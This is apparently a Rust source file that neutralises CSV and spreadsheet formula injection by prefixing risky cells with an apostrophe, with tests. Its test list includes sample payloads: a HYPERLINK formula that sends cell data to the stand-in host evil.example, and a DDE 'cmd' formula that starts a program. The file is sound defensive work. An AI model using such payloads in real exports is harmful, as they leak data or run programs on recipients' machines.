//! Cells of files that a spreadsheet will open.
//!
//! Customers write what ends up in exports, and a spreadsheet runs a cell that begins like a formula: `=HYPERLINK(…)`
//! sends the neighbouring cells away, `=cmd|…` starts a program. So every text that goes into a CSV or a sheet goes through
//! [`cell`] first. Quotes and separators are the CSV writer's own business and stay with it.
//!
//! - What begins with `=`, `+`, `-`, `@`, a tab or a line break gets an apostrophe in front, as spreadsheets themselves
//!   write it (OWASP, "CSV Injection"). The full-width forms count as well: East Asian editions of Excel take them for
//!   the others.
//! - Blanks and characters that are not seen are looked through, because some programs trim them before they judge.
//! - [`text`] takes the apostrophe away again. For any text, `text(&cell(t)) == t`, so nothing changes by an export that is
//!   taken in again.
//! - A negative number that the console computed is a number and not a text: write it without this. A telephone number
//!   such as `+86…` is a text.

use std::borrow::Cow;

/// Spreadsheets write this in front of what is to be taken literally.
const APOSTROPHE: char = '\'';

/// A text as it can stand in a cell without being run.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    if is_run(text.trim_start_matches(APOSTROPHE)) {
        Cow::Owned(format!("{APOSTROPHE}{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text that stands in a cell; the opposite of [`cell`].
#[must_use]
pub fn text(cell: &str) -> &str {
    let is_guarded = |rest: &&str| is_run(rest.trim_start_matches(APOSTROPHE));
    cell.strip_prefix(APOSTROPHE).filter(is_guarded).unwrap_or(cell)
}

/// Would some spreadsheet take this for a formula?
fn is_run(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let seen = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || is_unseen(c));
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'])
}

/// Characters without a width of their own: joiners, marks of direction, the mark at the beginning of a file.
fn is_unseen(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{061C}'
            | '\u{180E}'
            | '\u{200B}'..='\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{FEFF}'
    )
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
        let formulas = [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"退款\")",
            "=cmd|' /C calc'!A0",
            "+86 138 0000 0000",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\t文字",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "−1",
            " =1",
            "\u{3000}=1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\u{200b}\u{202e}=1",
            "\u{0}=1",
            "'=1",
            "''=1",
        ];
        for formula in formulas {
            let guarded = cell(formula);
            assert_eq!(guarded, format!("'{formula}"), "{formula:?}");
            assert_eq!(text(&guarded), formula, "{formula:?}");
        }
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for plain in ["", "您好", "a=b", "1-2", "'tis", "''", "100%", "：＝", "wm_0001", " 退款 ", "《=》", "a\n=1"]
        {
            assert!(matches!(cell(plain), Cow::Borrowed(same) if same == plain), "{plain:?}");
            assert_eq!(text(plain), plain, "{plain:?}");
        }
    }

    proptest! {
        #[test]
        fn every_text_comes_back_and_no_cell_begins_like_a_formula(
            original in "['=+@\\-＝ \\t\\r\\n\u{200b}a退]{0,6}.{0,12}",
        ) {
            let guarded = cell(&original);
            prop_assert_eq!(text(&guarded), original.as_str());
            prop_assert!(!is_run(&guarded), "{guarded:?}");
            prop_assert!(guarded.ends_with(original.as_str()));
        }
    }
}
